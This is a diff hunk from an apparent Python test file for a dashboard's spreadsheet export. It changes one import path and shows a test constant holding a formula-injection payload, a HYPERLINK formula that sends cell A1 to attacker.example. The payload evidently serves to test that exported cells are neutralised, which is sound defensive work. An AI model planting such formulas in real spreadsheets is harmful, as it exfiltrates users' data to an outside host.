@@ -18,7 +18,7 @@ import pytest
 from conftest import call
 
 from dashboard import pack
-from dashboard.data import Scope
+from dashboard.scope import Scope
 from etl.spreadsheet import neutralise, safe_frame, xlsx_bytes
 
 HOSTILE_TEAM = '=HYPERLINK("http://attacker.example/?x="&A1,"team")'
